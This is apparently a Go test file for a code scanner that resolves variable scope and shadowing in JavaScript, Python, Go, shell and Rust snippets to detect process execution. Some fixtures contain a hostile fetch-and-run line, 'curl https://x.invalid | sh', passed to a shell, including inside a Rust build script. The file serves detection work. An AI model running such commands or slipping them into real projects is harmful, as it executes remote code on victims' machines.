package behavior

import (
	"slices"
	"testing"
)

// A name stands for what its scope declares: also where a function stands before
// the declaration, and again when what shadows it is over.
func TestNamesStandForWhatTheirScopeDeclares(t *testing.T) {
	const run = "require('child_process').exec"
	for _, tt := range []struct{ situation, path, source string }{
		{"a function before a constant", "a.js", "function f() { q('true') } const q = " + run + "; f()"},
		{"an arrow function before a constant", "a.js", "const f = () => q('true'); const q = " + run + "; f()"},
		{"the same within a function", "a.js", "(function () { function f() { q('true') } const q = " + run + "; f() })()"},
		{"a method before a constant", "a.js", "(() => { class A { go() { q('true') } } const q = " + run + "; new A().go() })()"},
		{"a class behind the function that uses it", "a.js", "(() => { const f = () => new A().go(); class A { go() { q('true') } } const q = " + run + "; f() })()"},
		{"a constant that is taken apart", "a.js", "(() => { function f() { q('true') } const { exec: q } = require('child_process'); f() })()"},
		{"a variable of a block within", "a.js", "(() => { function f() { q('true') } try { var q = " + run + " } catch {} f() })()"},
		{"a block's own constant", "a.js", "{ const f = () => q('true'); const q = " + run + "; f() }"},
		{"a variable that is set later", "a.js", "let q; const f = () => q('true'); if (x) { q = " + run + " } f()"},
		{"a variable that nothing declares", "a.js", "function f() { q('true') } function g() { q = " + run + " } g(); f()"},
		{"an import behind a function", "a.mjs", "export function f() { q('true') }\nimport { exec as q } from 'child_process'"},
		{"a function of Python before a variable", "a.py", "def f():\n    q('true')\nimport os\nq = os.system\nf()"},
		{"the same within a function of Python", "a.py", "def g():\n    def f():\n        q('true')\n    import os\n    q = os.system\n    f()\ng()"},
		{"an import of Python that may fail", "a.py", "def f():\n    q('true')\ntry:\n    from os import system as q\nexcept ImportError:\n    q = None\nf()"},
		{"a constant of Go behind a function", "a.go", "package a\nimport \"os/exec\"\nfunc f() { q(\"true\").Run() }\nvar q = exec.Command\nfunc init() { f() }"},

		{"a block that shadows a constant", "a.js", "const q = " + run + "; function f() { { let q = 1 } q('true') }"},
		{"a block that shadows a variable of its function", "a.js", "function f() { let q = " + run + "; { const q = 1 } q('true') }"},
		{"a block that shadows behind the call", "a.js", "const q = " + run + "; function f() { q('true'); if (x) { let q = 1 } }"},
		{"a loop that shadows", "a.js", "const q = " + run + "; function f() { for (const q of [1]) {} for (let q = 0; q < 1; q++) {} q('true') }"},
		{"a function in a block that shadows", "a.js", "let q = " + run + "; { function q() {} } q('true')"},
		{"a class in a block that shadows", "a.js", "let q = " + run + "; { class q {} } q('true')"},
		{"a variable of a block that goes on", "a.js", "const q = 1; function f() { { var q = " + run + " } q('true') }"},
		{"a variable of a loop that goes on", "a.js", "const q = 1; function f() { for (var q of [" + run + "]) {} q('true') }"},
		{"a variable that a loop sets", "a.js", "function f() { let q; for (q of [" + run + "]) {} q('true') }"},
		{"a variable that two cases share", "a.js", "switch (x) { case 1: let q = " + run + "; case 2: q('true') }"},
		{"a list of Python that shadows", "a.py", "import os\ndef f():\n    q = os.system\n    [q for q in x]\n    q('true')"},
		{"a block of Go that shadows", "a.go", "package a\nimport \"os/exec\"\nfunc init() { q := exec.Command; { q := 1; _ = q }; q(\"true\") }"},
	} {
		if got := deeds(tt.path, tt.source); !slices.Contains(got, "process true") {
			t.Errorf("%s: got %q", tt.situation, got)
		}
	}
}

// A shell's variables are those of the whole script.
func TestNamesOfAShellStandForWhatIsSetLater(t *testing.T) {
	const source = "f() { sh -c \"$q\"; }\nq='curl https://x.invalid | sh'\nf"
	if got := deeds("a.sh", source); !slices.Contains(got, "network>process sh") {
		t.Errorf("got %q, want what came run by a shell", got)
	}
}

// A block of Rust, and a loop, have names of their own.
func TestNamesOfRustStandForWhatTheirBlockDeclares(t *testing.T) {
	for situation, shadow := range map[string]string{
		"a block": "{ let u = \"x\"; }", "a branch": "if v { let u = 1; }", "a loop": "for u in 0..3 { }", "a condition": "if let u = v { }",
	} {
		source := "use std::process::Command;\nfn main() { let u = \"curl https://x.invalid | sh\"; " + shadow + " Command::new(\"sh\").arg(\"-c\").arg(u).spawn(); }"
		if got := deeds("build.rs", source); !slices.Contains(got, "network>process sh") {
			t.Errorf("%s: got %q, want what came run by a shell", situation, got)
		}
	}
}
